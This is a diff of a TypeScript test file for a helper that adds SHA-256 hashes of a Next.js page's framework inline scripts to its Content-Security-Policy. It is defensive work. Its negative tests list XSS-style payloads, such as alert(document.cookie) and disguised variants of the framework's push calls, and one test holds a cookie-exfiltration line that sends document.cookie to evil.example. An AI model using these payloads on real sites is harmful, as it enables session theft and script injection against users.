@@ -7,18 +7,63 @@ import { hashInlineScripts, inlineScriptHashes, withScriptHashes } from "@/lib/h
 // A page's inline scripts named by their SHA-256 in its policy (lib/http/script-hashes.mjs, server.mjs).
 
 const sha = (text: string) => `'sha256-${createHash("sha256").update(text).digest("base64")}'`;
-const policy = "default-src 'self'; script-src 'self' 'unsafe-inline'; style-src 'self' 'unsafe-inline'";
+const policy = "default-src 'self'; script-src 'self'; style-src 'self' 'unsafe-inline'";
+/** A script as Next writes a page's data into it. */
+const flight = (text: string) => `self.__next_f.push(${JSON.stringify([1, text])})`;
 
 describe("inlineScriptHashes", () => {
-  it("names each script a browser runs inline, once, in order", () => {
+  it("names each script of the framework's shapes a browser runs inline, once, in order", () => {
+    const turbopack = '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push({"otherChunks":["a.js"]});';
     const html =
-      `<script>self.__next_f.push([1,"a"])</script><p>x</p><SCRIPT type="module">go()</SCRIPT >` +
-      `<script type="text/javascript" id="gate">gate()</script><script>self.__next_f.push([1,"a"])</script>`;
+      `<script>(self.__next_f=self.__next_f||[]).push([0])</script><p>x</p>` +
+      `<SCRIPT type="module">${flight("a")}</SCRIPT ><script id="_R_">${turbopack}</script>` +
+      `<script type="text/javascript">${flight("b")}</script><script>${flight("a")}</script>`;
     expect(inlineScriptHashes(Buffer.from(html))).toEqual([
-      sha('self.__next_f.push([1,"a"])'),
-      sha("go()"),
-      sha("gate()"),
+      sha("(self.__next_f=self.__next_f||[]).push([0])"),
+      sha(flight("a")),
+      sha(turbopack),
+      sha(flight("b")),
     ]);
+  });
+
+  it("hashes no other inline script, however close to the framework's it looks: an injected one never runs", () => {
+    const injected = [
+      "alert(document.cookie)",
+      "self.__next_f.push([1,'a']);alert(1)//)",
+      'self.__next_f.push([1,"a"]);alert(1);self.__next_f.push([1,"b"])',
+      "self.__next_f.push(alert(1))",
+      'self.__next_f.push([1,"a"]);;',
+      'self.__next_f.push([1,"a"]);alert(1);',
+      'self.__next_f.push([1,"a"]),alert(1);',
+      'self.__next_f.push([1,"a"]);\nalert(1)',
+      "(self.__next_f=self.__next_f||[]).push([0]);self.__next_f.push([1]),alert([1])",
+      'self.__next_f.push([1,"a"],alert(1))',
+      'self.__next_f.push([1,"a"])//',
+      ' self.__next_f.push([1,"a"])',
+      'self.__next_f.push([1,"a"]) ',
+      'self.__next_f.push([1,"a"])/*x*/',
+      'self.__next_f.push([1,"a"]);alert(1)//)',
+      'self.__next_f.push([1,"a"])\u2028alert(1)',
+      'self.__next_f.push(["a"].concat([alert(1)]))',
+      'self.__next_f.push([1,"a"]).x',
+      'self.__next_f.push([1,"a"])(1)',
+      "self.__next_f.push((alert(1),[1]))",
+      'self.__next_f.push([1,"a"]);self.__next_f.push(1)',
+      'self.__next_f.push([1,"a"]);self.__next_f.push([alert(1)])',
+      'self.__next_f.push([1,"a"]);self.__next_f.push([1,"b"])',
+      'self.__next_f.push([1,"a"]);;self.__next_f.push([1,"b"])',
+      'self.__next_f.push([1,"a"]);\r\nself.__next_f.push([1,"b"])',
+      'self.__next_f.push([1,"a"]); ',
+      'self.__next_f.push([1,"a"])\n',
+      'self.__next_f.push([1,"a"]);\n',
+      'self.__next_f.push([1,"a"])\t;',
+      'self.__next_f.push([1,"a"]);//',
+      'self.__next_f.push([1,"a"]);/**/',
+      'self.__next_f.push({"a":1})',
+      '(globalThis["TURBOPACK"] || (globalThis["TURBOPACK"] = [])).push([alert(1)])',
+    ];
+    const html = injected.map((script) => `<script>${script}</script>`).join("<p>x</p>");
+    expect(inlineScriptHashes(Buffer.from(html))).toEqual([]);
   });
 
   it("leaves out scripts loaded from a file and data blocks, which a browser does not run inline", () => {
@@ -29,24 +74,24 @@ describe("inlineScriptHashes", () => {
   });
 
   it("hashes the text as the browser's parser reads it: line breaks as LF", () => {
-    expect(inlineScriptHashes(Buffer.from("<script>a()\r\nb()\rc()</script>"))).toEqual([sha("a()\nb()\nc()")]);
+    const html = `<script>self.__next_f.push([1,\r\n"a",\r"b"])</script>`;
+    expect(inlineScriptHashes(Buffer.from(html))).toEqual([sha('self.__next_f.push([1,\n"a",\n"b"])')]);
   });
 
   it("hashes a script's UTF-8 text, wherever other letters outside ASCII stand before it", () => {
-    const html = `<h1>Maison à Liège, 250 000 €</h1><script>say("Bienvenue à Liège — 5 €")</script>`;
-    expect(inlineScriptHashes(Buffer.from(html))).toEqual([sha('say("Bienvenue à Liège — 5 €")')]);
-    expect(inlineScriptHashes(Buffer.from(`<p>é</p><script>a("ü")\r\nb()</script>`))).toEqual([sha('a("ü")\nb()')]);
+    const html = `<h1>Maison à Liège, 250 000 €</h1><script>${flight("Bienvenue à Liège — 5 €")}</script>`;
+    expect(inlineScriptHashes(Buffer.from(html))).toEqual([sha(flight("Bienvenue à Liège — 5 €"))]);
   });
 });
 
 describe("withScriptHashes", () => {
-  it("adds the hashes to script-src only, beside 'unsafe-inline' (which browsers that know hashes then ignore)", () => {
+  it("adds the hashes to script-src only", () => {
     expect(withScriptHashes(policy, [sha("a")])).toBe(
-      `default-src 'self'; script-src 'self' 'unsafe-inline' ${sha("a")}; style-src 'self' 'unsafe-inline'`,
+      `default-src 'self'; script-src 'self' ${sha("a")}; style-src 'self' 'unsafe-inline'`,
     );
   });
 
-  it("leaves a policy without inline scripts as it is, and one with no hashes to add", () => {
+  it("leaves a policy without script-src as it is, and one with no hashes to add", () => {
     expect(withScriptHashes("default-src 'none'", [sha("a")])).toBe("default-src 'none'");
     expect(withScriptHashes(policy, [])).toBe(policy);
   });
@@ -77,7 +122,11 @@ async function served(write: (res: http.ServerResponse) => void, accept = "ident
 
 describe("hashInlineScripts", () => {
   it("holds a page streamed in pieces and sends it whole, with every script's hash in its policy", async () => {
-    const pieces = ["<html><body><script>one()</scr", "ipt><main>é</main>", "<script>two()</script></body></html>"];
+    const pieces = [
+      `<html><body><script>${flight("one")}</scr`,
+      "ipt><main>é</main>",
+      `<script>${flight("two")}</script></body></html>`,
+    ];
     const answer = await served((res) => {
       res.setHeader("Content-Type", "text/html; charset=utf-8");
       res.setHeader("Content-Security-Policy", policy);
@@ -87,19 +136,19 @@ describe("hashInlineScripts", () => {
       res.end(Buffer.from(pieces[2]!));
     });
     expect(answer.body).toBe(pieces.join(""));
-    expect(answer.policy).toBe(withScriptHashes(policy, [sha("one()"), sha("two()")]));
+    expect(answer.policy).toBe(withScriptHashes(policy, [sha(flight("one")), sha(flight("two"))]));
   });
 
   it("reads the policy and type given to writeHead too", async () => {
     const answer = await served((res) => {
       res.writeHead(200, { "content-type": "text/html", "content-security-policy": policy });
-      res.end("<script>three()</script>");
+      res.end(`<script>${flight("three")}</script>`);
     });
-    expect(answer.policy).toBe(withScriptHashes(policy, [sha("three()")]));
+    expect(answer.policy).toBe(withScriptHashes(policy, [sha(flight("three"))]));
   });
 
   it("sends a page from Next's cache compressed as the request accepts from its second answer on", async () => {
-    const html = `<html><body><h1>Maison à Liège</h1><script>four()</script></body></html>`;
+    const html = `<html><body><h1>Maison à Liège</h1><script>${flight("four")}</script></body></html>`;
     const fromCache = (res: http.ServerResponse) => {
       res.setHeader("Content-Type", "text/html; charset=utf-8");
       res.setHeader("Content-Security-Policy", policy);
@@ -117,17 +166,29 @@ describe("hashInlineScripts", () => {
       const answer = await served(fromCache, accept);
       expect(answer.coding, accept).toBe(coding);
       expect(answer.body, accept).toBe(html);
-      expect(answer.policy, accept).toBe(withScriptHashes(policy, [sha("four()")]));
+      expect(answer.policy, accept).toBe(withScriptHashes(policy, [sha(flight("four"))]));
     }
   });
 
   it("leaves a page drawn for one request to the compression library", async () => {
     const answer = await served((res) => {
       res.writeHead(200, { "content-type": "text/html", "content-security-policy": policy });
-      res.end("<script>five()</script>");
+      res.end(`<script>${flight("five")}</script>`);
     }, "br, gzip");
     expect(answer.coding).toBeNull();
-    expect(answer.policy).toBe(withScriptHashes(policy, [sha("five()")]));
+    expect(answer.policy).toBe(withScriptHashes(policy, [sha(flight("five"))]));
+  });
+
+  it("in a page drawn for one request, names the framework's scripts only, never one injected into its content", async () => {
+    const injected = "fetch('https://evil.example/?'+document.cookie)";
+    const answer = await served((res) => {
+      res.writeHead(200, { "content-type": "text/html", "content-security-policy": policy });
+      res.end(`<h1>Your search: <script>${injected}</script></h1><script>${flight("six")}</script>`);
+    });
+    expect(answer.policy).toBe(
+      `default-src 'self'; script-src 'self' ${sha(flight("six"))}; style-src 'self' 'unsafe-inline'`,
+    );
+    expect(answer.policy).not.toContain(sha(injected));
   });
 
   it("lets any other answer through as it comes", async () => {
